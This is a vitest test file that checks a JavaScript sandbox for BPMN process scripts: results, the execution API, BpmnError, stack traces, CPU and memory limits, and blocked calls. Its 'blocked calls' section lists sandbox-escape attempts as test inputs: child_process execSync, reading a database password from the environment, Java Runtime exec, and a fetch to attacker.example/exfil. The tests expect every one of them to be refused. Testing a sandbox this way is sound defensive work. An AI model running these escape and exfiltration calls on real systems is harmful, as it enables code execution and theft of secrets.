// The script side of DESIGN.md through the real sandbox: results, the
// execution API, BpmnError, stacks, limits, absent globals and blocked calls.
import { afterAll, afterEach, describe, expect, it } from 'vitest';

import type { ExecutionEvent } from '../../src/sandbox/job.ts';
import { expectKind, LIMITS, META, newPool, run, TIGHT } from './sandbox-support.ts';

const pool = newPool();
afterAll(() => pool.dispose());

/** The JSON text of a result the script built as Json. */
function jsonResult(outcome: Awaited<ReturnType<typeof run>>['outcome']): unknown {
  const result = expectKind(outcome, 'completed').result;
  if (result?.t !== 'json')
    throw new Error(`expected a Json result, got ${JSON.stringify(result)}`);
  return JSON.parse(result.v);
}

function blocked(events: ExecutionEvent[]): { capability: string; name: string }[] {
  return events.flatMap((e) =>
    e.kind === 'blocked' ? [{ capability: e.capability, name: e.name }] : [],
  );
}

describe('the completion value is the result', () => {
  it('the value of the last expression statement is the result', async () => {
    const { outcome } = await run(
      pool,
      `const lines = [2, 3];\nlines.reduce((a, b) => a + b, 0) * 10;`,
    );
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'integer', v: 50 });
  });

  it('a script whose last statement yields nothing has no result', async () => {
    const { outcome } = await run(pool, `execution.setVariable('a', 1);`);
    expect(expectKind(outcome, 'completed').result).toBeUndefined();
  });

  it('a promise result is awaited', async () => {
    const { outcome } = await run(
      pool,
      `(async () => { await null; await Promise.resolve(); return 'done'; })()`,
    );
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'string', v: 'done' });
  });

  it('a thenable result is awaited', async () => {
    const { outcome } = await run(pool, `({ then(resolve) { resolve(41 + 1); } })`);
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'integer', v: 42 });
  });

  it('variables set after an await are part of the completion', async () => {
    const { outcome } = await run(
      pool,
      `(async () => { await null; execution.setVariable('late', true); })()`,
    );
    expect(expectKind(outcome, 'completed').variables).toEqual({ late: { t: 'boolean', v: true } });
  });
});

describe('a fresh context per task', () => {
  it('a global, a polluted prototype or a replaced trap set by one task is absent in the next on the same isolate', async () => {
    const single = newPool();
    try {
      const first = await run(
        single,
        `globalThis.leak = 'from task 1'; Array.prototype.polluted = 1; Object.prototype.evil = 2;
         globalThis.require = () => 'fake'; JSON.parse = () => 'hijacked'; 'ok'`,
      );
      expectKind(first.outcome, 'completed');

      // The isolate itself is reused (this is what makes the fresh context matter).
      const pooled = await single.acquire(LIMITS.memoryMb);
      expect(pooled.tasks).toBe(1);
      single.release(pooled, true);

      const second = await run(
        single,
        `[typeof leak, [].polluted === undefined, ({}).evil === undefined, JSON.parse('1'),
          (() => { try { require('fs'); return 'reachable'; } catch (e) { return e.name; } })()]`,
      );
      expect(jsonResult(second.outcome)).toEqual([
        'undefined',
        true,
        true,
        1,
        'SandboxPolicyError',
      ]);
    } finally {
      single.dispose();
    }
  });

  it('the variables of one task are not visible to the next', async () => {
    await run(pool, `execution.setVariable('carried', 1);`, {
      variables: { input: { t: 'string', v: 'one' } },
    });
    const { outcome } = await run(
      pool,
      `[execution.hasVariable('carried'), execution.hasVariable('input')]`,
    );
    expect(jsonResult(outcome)).toEqual([false, false]);
  });
});

describe('the execution object', () => {
  it('every getter answers from the task', async () => {
    const { outcome } = await run(
      pool,
      `({
        id: execution.getId(),
        processInstanceId: execution.getProcessInstanceId(),
        processDefinitionId: execution.getProcessDefinitionId(),
        processDefinitionKey: execution.getProcessDefinitionKey(),
        activityId: execution.getActivityId(),
        currentActivityId: execution.getCurrentActivityId(),
        activityInstanceId: execution.getActivityInstanceId(),
        businessKey: execution.getBusinessKey(),
        processBusinessKey: execution.getProcessBusinessKey(),
        tenantId: execution.getTenantId(),
        topicName: execution.getTopicName(),
      })`,
    );
    expect(jsonResult(outcome)).toEqual({
      id: META.executionId,
      processInstanceId: 'pi-1',
      processDefinitionId: 'invoice:3:pd-1',
      processDefinitionKey: 'invoice',
      activityId: 'computeTotal',
      currentActivityId: 'computeTotal',
      activityInstanceId: 'computeTotal:ai-1',
      businessKey: 'order-42',
      processBusinessKey: 'order-42',
      tenantId: 'tenant-a',
      topicName: 'sandbox',
    });
  });

  it('a task without business key or tenant answers null for them', async () => {
    const { outcome } = await run(pool, `[execution.getBusinessKey(), execution.getTenantId()]`, {
      meta: { businessKey: null, tenantId: null },
    });
    expect(jsonResult(outcome)).toEqual([null, null]);
  });

  it('getVariables returns the task variables and those the script set', async () => {
    const { outcome } = await run(
      pool,
      `execution.setVariable('total', 12); execution.setVariableLocal('note', 'x'); execution.getVariables()`,
      { variables: { customer: { t: 'string', v: 'ACME' }, qty: { t: 'integer', v: 3 } } },
    );
    expect(jsonResult(outcome)).toEqual({ customer: 'ACME', qty: 3, total: 12, note: 'x' });
  });

  it('hasVariable is true for a task variable and a variable the script set, false otherwise', async () => {
    const { outcome } = await run(
      pool,
      `execution.setVariable('set', null);
       [execution.hasVariable('customer'), execution.hasVariable('set'), execution.hasVariable('other')]`,
      { variables: { customer: { t: 'string', v: 'ACME' } } },
    );
    expect(jsonResult(outcome)).toEqual([true, true, false]);
  });

  it('getVariable sees the value the script set, and the same object on every read', async () => {
    const { outcome } = await run(
      pool,
      `const order = execution.getVariable('order');
       order.lines.push(3);
       execution.setVariable('qty', 5);
       [execution.getVariable('order') === order, execution.getVariable('order').lines.length, execution.getVariable('qty')]`,
      { variables: { order: { t: 'json', v: '{"lines":[1,2]}' }, qty: { t: 'integer', v: 1 } } },
    );
    expect(jsonResult(outcome)).toEqual([true, 3, 5]);
  });

  it('setVariable goes to the process variables, setVariableLocal to the local variables', async () => {
    const { outcome } = await run(
      pool,
      `execution.setVariable('total', 12.5);
       execution.setVariableLocal('audit', 'checked');
       [execution.getVariableLocal('audit'), execution.getVariable('audit')]`,
    );
    const completed = expectKind(outcome, 'completed');
    expect(completed.variables).toEqual({ total: { t: 'double', v: 12.5 } });
    expect(completed.localVariables).toEqual({ audit: { t: 'string', v: 'checked' } });
    expect(completed.result).toEqual({ t: 'json', v: '["checked","checked"]' });
  });

  it('task variables that the script does not set are not sent back', async () => {
    const { outcome } = await run(pool, `execution.getVariable('customer').length`, {
      variables: { customer: { t: 'string', v: 'ACME' } },
    });
    const completed = expectKind(outcome, 'completed');
    expect(completed.variables).toEqual({});
    expect(completed.result).toEqual({ t: 'integer', v: 4 });
  });

  it('removeVariable is refused with a message that says what to do instead', async () => {
    const { outcome } = await run(pool, `execution.removeVariable('customer')`);
    expect(expectKind(outcome, 'error').message).toContain('set the variable to null instead');
  });

  it('the execution object cannot be replaced or changed by the script', async () => {
    const { outcome } = await run(
      pool,
      `'use strict';
       let changed;
       try { execution.getBusinessKey = () => 'forged'; changed = true; } catch (e) { changed = e.name; }
       [changed, execution.getBusinessKey()]`,
    );
    expect(jsonResult(outcome)).toEqual(['TypeError', 'order-42']);
  });
});

describe('BpmnError', () => {
  it('thrown synchronously, it carries code, message and variables', async () => {
    const { outcome } = await run(
      pool,
      `throw new BpmnError('CREDIT_REJECTED', 'limit exceeded', { reason: 'limit', score: 420 });`,
    );
    expect(outcome).toEqual({
      kind: 'bpmnError',
      code: 'CREDIT_REJECTED',
      message: 'limit exceeded',
      variables: { reason: { t: 'string', v: 'limit' }, score: { t: 'integer', v: 420 } },
    });
  });

  it('thrown from an async function, it is still a BPMN error', async () => {
    const { outcome } = await run(
      pool,
      `async function check() { await null; throw new BpmnError('OUT_OF_STOCK', 'item 7', { item: 7n }); }\ncheck();`,
    );
    expect(outcome).toEqual({
      kind: 'bpmnError',
      code: 'OUT_OF_STOCK',
      message: 'item 7',
      variables: { item: { t: 'long', v: '7' } },
    });
  });

  it('without a message, the message is the code', async () => {
    const { outcome } = await run(pool, `throw new BpmnError('NO_MESSAGE');`);
    expect(outcome).toMatchObject({
      kind: 'bpmnError',
      code: 'NO_MESSAGE',
      message: 'NO_MESSAGE',
      variables: {},
    });
  });

  it('variables the script set before throwing go with the error', async () => {
    const { outcome } = await run(
      pool,
      `execution.setVariable('checkedAt', 1); throw new BpmnError('E', 'm', { why: 'x' });`,
    );
    expect(expectKind(outcome, 'bpmnError').variables).toEqual({
      checkedAt: { t: 'integer', v: 1 },
      why: { t: 'string', v: 'x' },
    });
  });

  it('without a code it is a TypeError, an ordinary failure', async () => {
    const { outcome } = await run(pool, `throw new BpmnError();`);
    const error = expectKind(outcome, 'error');
    expect(error.name).toBe('TypeError');
    expect(error.message).toContain('BpmnError needs an error code');
  });

  it('an object that only looks like a BpmnError is an ordinary failure', async () => {
    const { outcome } = await run(
      pool,
      `throw { name: 'BpmnError', code: 'FAKE', message: 'm', variables: {} };`,
    );
    expect(expectKind(outcome, 'error').policyViolation).toBe(false);
  });

  it('a BpmnError the script catches does not end the task', async () => {
    const { outcome } = await run(
      pool,
      `try { throw new BpmnError('E'); } catch (e) { e instanceof Error && e.code }`,
    );
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'string', v: 'E' });
  });
});

describe('errors', () => {
  const SOURCE = [
    '// invoice total', // 1
    'const lines = execution.getVariable("lines");', // 2
    'function check(total) {', // 3
    '  if (total > 100) {', // 4
    "    throw new RangeError('total ' + total + ' is over the limit');", // 5
    '  }', // 6
    '}', // 7
    'check(lines.reduce((a, b) => a + b, 0));', // 8
  ].join('\n');

  function expectOnlyScriptFrames(stack: string, filename: string): void {
    const frames = stack.split('\n').filter((line) => /^\s+at /.test(line));
    expect(frames.length).toBeGreaterThan(0);
    for (const frame of frames) expect(frame).toContain(`${filename}:`);
    expect(stack).not.toMatch(/sandbox-prelude|node:|file:|run-script|isolate-pool|\/work\//);
  }

  it('a thrown error gives its name, message and the script stack with the script line numbers', async () => {
    const { outcome } = await run(pool, SOURCE, {
      filename: 'invoice/total.js',
      variables: { lines: { t: 'json', v: '[60,70]' } },
    });
    const error = expectKind(outcome, 'error');
    expect(error.name).toBe('RangeError');
    expect(error.message).toBe('total 130 is over the limit');
    expect(error.policyViolation).toBe(false);
    expect(error.stack).toContain('RangeError: total 130 is over the limit');
    expect(error.stack).toMatch(/at check \(invoice\/total\.js:5:11\)/);
    expect(error.stack).toMatch(/invoice\/total\.js:8:1\)/);
    expectOnlyScriptFrames(error.stack!, 'invoice/total.js');
  });

  it('an error thrown from an async function keeps the script line', async () => {
    const { outcome } = await run(
      pool,
      `async function load() {\n  await null;\n  throw new TypeError('no lines');\n}\nload();`,
    );
    const error = expectKind(outcome, 'error');
    expect(error.name).toBe('TypeError');
    expect(error.message).toBe('no lines');
    expect(error.stack).toMatch(/at load \(task\.js:3:9\)/);
    expectOnlyScriptFrames(error.stack!, 'task.js');
  });

  it('an error from a call into execution shows no prelude frame', async () => {
    const { outcome } = await run(pool, `\n\nexecution.getVariable(42);`);
    const error = expectKind(outcome, 'error');
    expect(error.message).toBe('a variable name must be a non-empty string');
    expect(error.stack).toMatch(/task\.js:3:11/);
    expectOnlyScriptFrames(error.stack!, 'task.js');
  });

  it('a thrown non-error value is reported as text, without a stack', async () => {
    const { outcome } = await run(pool, `throw 'plain text';`);
    expect(outcome).toEqual({
      kind: 'error',
      name: 'string',
      message: 'plain text',
      policyViolation: false,
    });
  });

  it('a syntax error is rejected with its line and column in the script', async () => {
    const { outcome } = await run(pool, `const a = 1;\nconst = 2;`, { filename: 'broken.js' });
    const rejected = expectKind(outcome, 'rejected');
    expect(rejected.code).toBe('SCRIPT_SYNTAX_ERROR');
    expect(rejected.message).toMatch(/^SyntaxError: .*\[broken\.js:2:7\]$/);
  });

  it('deep recursion ends in a RangeError, not a crash', async () => {
    const { outcome } = await run(pool, `function down(n) { return down(n + 1) + 1; }\ndown(0);`, {
      limits: TIGHT,
    });
    const error = expectKind(outcome, 'error');
    expect(error.name).toBe('RangeError');
    expect(error.message).toBe('Maximum call stack size exceeded');
    expect(error.policyViolation).toBe(false);
  });
});

describe('limits', () => {
  afterEach(async () => {
    // After every breach the pool still runs the next task.
    const { outcome } = await run(pool, `execution.setVariable('after', 'breach'); 6 * 7`);
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'integer', v: 42 });
  });

  it('an infinite loop ends with a CPU timeout', async () => {
    const started = performance.now();
    const { outcome } = await run(pool, `while (true) {}`, { limits: TIGHT });
    expect(outcome).toEqual({ kind: 'timeout', limit: 'cpu', limitMs: 200 });
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('an infinite loop after an await ends with a CPU timeout', async () => {
    const { outcome } = await run(pool, `(async () => { await null; for (;;) {} })()`, {
      limits: TIGHT,
    });
    expect(outcome).toEqual({ kind: 'timeout', limit: 'cpu', limitMs: 200 });
  });

  it('a promise that never settles ends with a wall-clock timeout', async () => {
    const started = performance.now();
    const { outcome } = await run(pool, `new Promise(() => {})`, { limits: TIGHT });
    expect(outcome).toEqual({ kind: 'timeout', limit: 'wall', limitMs: 300 });
    expect(performance.now() - started).toBeGreaterThanOrEqual(290);
  });

  it('a microtask flood ends with a timeout', async () => {
    const { outcome } = await run(
      pool,
      `function again() { Promise.resolve().then(again); }\nagain();\n'started'`,
      {
        limits: TIGHT,
      },
    );
    expect(outcome.kind).toBe('timeout');
  });

  it('a memory bomb ends with the memory limit', async () => {
    const { outcome } = await run(
      pool,
      `const hoard = []; for (;;) hoard.push(new Array(1e6).fill(1.5));`,
      {
        limits: { memoryMb: 16, wallMs: 10_000, cpuMs: 5_000 },
      },
    );
    expect(outcome).toEqual({ kind: 'memoryLimit', limitMb: 16 });
  });

  it('a result over the output limit fails as outputTooLarge', async () => {
    const { outcome } = await run(pool, `'x'.repeat(5000)`, { limits: { outputBytes: 4096 } });
    const error = expectKind(outcome, 'error');
    expect(error.outputTooLarge).toBe(true);
    expect(error.policyViolation).toBe(false);
    expect(error.message).toContain('4096');
  });

  it('variables over the output limit fail as outputTooLarge', async () => {
    const { outcome } = await run(
      pool,
      `for (let i = 0; i < 10; i++) execution.setVariable('v' + i, 'y'.repeat(500));`,
      {
        limits: { outputBytes: 4096 },
      },
    );
    expect(expectKind(outcome, 'error').outputTooLarge).toBe(true);
  });

  it('a breach in one task leaves a task running beside it untouched', async () => {
    const [looping, normal] = await Promise.all([
      run(pool, `while (true) {}`, { limits: TIGHT }),
      run(
        pool,
        `(async () => { let n = 0; for (let i = 0; i < 1000; i++) { await null; n += i; } return n; })()`,
      ),
    ]);
    expect(looping.outcome.kind).toBe('timeout');
    expect(expectKind(normal.outcome, 'completed').result).toEqual({ t: 'integer', v: 499500 });
  });
});

describe('input limit', () => {
  it('variables over the input limit are rejected before the script runs', async () => {
    const { outcome, events } = await run(pool, `execution.setVariable('ran', true)`, {
      limits: { inputBytes: 1024 },
      variables: { note: { t: 'string', v: 'n'.repeat(2000) } },
    });
    const rejected = expectKind(outcome, 'rejected');
    expect(rejected.code).toBe('SCRIPT_INPUT_TOO_LARGE');
    expect(rejected.message).toContain('1024');
    expect(events).toEqual([]);
  });

  it('variables under the input limit are accepted', async () => {
    const { outcome } = await run(pool, `execution.getVariable('note').length`, {
      limits: { inputBytes: 1024 },
      variables: { note: { t: 'string', v: 'n'.repeat(500) } },
    });
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'integer', v: 500 });
  });
});

describe('absent globals', () => {
  it('WebAssembly, SharedArrayBuffer and Atomics do not exist', async () => {
    const { outcome, events } = await run(
      pool,
      `[typeof WebAssembly, typeof SharedArrayBuffer, typeof Atomics, 'WebAssembly' in globalThis,
        (() => { try { new WebAssembly.Memory({ initial: 1 }); return 'created'; } catch (e) { return e.name; } })()]`,
    );
    expect(jsonResult(outcome)).toEqual([
      'undefined',
      'undefined',
      'undefined',
      false,
      'ReferenceError',
    ]);
    expect(events).toEqual([]);
  });
});

describe('blocked calls', () => {
  // Node's and the JVM script engines' escape hatches, and timers (DESIGN.md, "The script side").
  const escapes: [string, string][] = [
    ['require', `require('child_process').execSync('id')`],
    ['process', `process.env.DATABASE_PASSWORD`],
    ['Buffer', `Buffer.from('x')`],
    ['Java', `Java.type('java.lang.Runtime').getRuntime().exec('id')`],
    ['Packages', `Packages.java.lang.System.exit(0)`],
    ['java', `java.lang.System.getenv()`],
    ['load', `load('nashorn:mozilla_compat.js')`],
    ['setTimeout', `setTimeout(() => {}, 0)`],
    ['setInterval', `setInterval(() => {}, 10)`],
    ['setImmediate', `setImmediate(() => {})`],
  ];

  it.each(escapes)(
    '%s, uncaught, fails the task as a policy violation and emits a blocked event',
    async (name, use) => {
      const { outcome, events } = await run(pool, use);
      const error = expectKind(outcome, 'error');
      expect(error.name).toBe('SandboxPolicyError');
      expect(error.message).toContain(`${name} is not available in the sandbox`);
      expect(error.policyViolation).toBe(true);
      expect(blocked(events)).toEqual([{ capability: name, name }]);
    },
  );

  it.each(escapes)(
    '%s, caught, throws a SandboxPolicyError and still emits a blocked event',
    async (name, use) => {
      const { outcome, events } = await run(
        pool,
        `let seen; try { ${use}; seen = 'reached'; } catch (e) { seen = [e.name, e instanceof SandboxPolicyError]; } seen`,
      );
      expect(jsonResult(outcome)).toEqual(['SandboxPolicyError', true]);
      expect(blocked(events)).toEqual([{ capability: name, name }]);
    },
  );

  it('a capability the policy does not grant is blocked with a message naming the policy', async () => {
    const { outcome, events } = await run(pool, `fetch('https://attacker.example/exfil')`);
    const error = expectKind(outcome, 'error');
    expect(error.message).toBe(
      "fetch is not available in the sandbox: policy 'unit' does not grant capability 'fetch'",
    );
    expect(error.policyViolation).toBe(true);
    expect(blocked(events)).toEqual([{ capability: 'fetch', name: 'fetch' }]);
  });

  it.each([
    ['secrets', `secrets.get('DB_PASSWORD')`, 'secrets'],
    ['crypto', `crypto.randomUUID()`, 'crypto'],
    ['console', `console.log('hi')`, 'console'],
    ['print', `print('hi')`, 'console'],
  ])('%s without its grant is counted under its capability', async (name, use, capability) => {
    const { outcome, events } = await run(pool, use);
    expect(expectKind(outcome, 'error').policyViolation).toBe(true);
    expect(blocked(events)).toEqual([{ capability, name }]);
  });

  it('every use of a blocked name counts, each one an event', async () => {
    const { events } = await run(
      pool,
      `for (const f of [() => process.pid, () => require('fs'), () => process.exit()]) { try { f(); } catch {} }`,
    );
    expect(blocked(events).map((e) => e.name)).toEqual(['process', 'require', 'process']);
  });

  it.each(['getProcessEngineServices', 'getProcessEngine'])(
    'execution.%s, the way into the engine, is a blocked call',
    async (method) => {
      const { outcome, events } = await run(pool, `execution.${method}().getRuntimeService()`);
      const error = expectKind(outcome, 'error');
      expect(error.name).toBe('SandboxPolicyError');
      expect(error.policyViolation).toBe(true);
      expect(blocked(events)).toEqual([
        { capability: 'engineServices', name: `execution.${method}` },
      ]);
    },
  );

  it('a blocked call caught and followed by a normal end still completes the task', async () => {
    const { outcome, events } = await run(pool, `try { process.exit(1); } catch {} 'carried on'`);
    expect(expectKind(outcome, 'completed').result).toEqual({ t: 'string', v: 'carried on' });
    expect(blocked(events)).toHaveLength(1);
  });
});

describe('granted capabilities', () => {
  it('console writes to the worker log as console events, not as blocked calls', async () => {
    const { outcome, events } = await run(
      pool,
      `console.log('total', { n: 1n }); console.warn('careful'); 1`,
      {
        capabilities: { console: { maxLines: 10, maxBytes: 1024 } },
      },
    );
    expectKind(outcome, 'completed');
    expect(events).toEqual([
      { kind: 'console', level: 'info', text: 'total {"n":"1"}' },
      { kind: 'console', level: 'warn', text: 'careful' },
    ]);
  });

  it('a secret handed to the script is redacted from the error sent to the engine', async () => {
    process.env['SANDBOX_SECRET_UNIT_API_KEY'] = 'hunter2-unit-value';
    try {
      const { outcome } = await run(
        pool,
        `throw new Error('login failed with ' + secrets.get('UNIT_API_KEY'));`,
        {
          capabilities: { secrets: { allow: ['UNIT_API_KEY'] } },
        },
      );
      const error = expectKind(outcome, 'error');
      expect(error.message).toBe('login failed with [secret:UNIT_API_KEY]');
      expect(error.stack).not.toContain('hunter2-unit-value');
    } finally {
      delete process.env['SANDBOX_SECRET_UNIT_API_KEY'];
    }
  });

  it('a secret outside the allow list is a blocked call', async () => {
    const { outcome, events } = await run(pool, `secrets.get('OTHER')`, {
      capabilities: { secrets: { allow: ['UNIT_API_KEY'] } },
    });
    expect(expectKind(outcome, 'error').policyViolation).toBe(true);
    expect(blocked(events)).toEqual([{ capability: 'secrets', name: 'secrets.get' }]);
  });
});
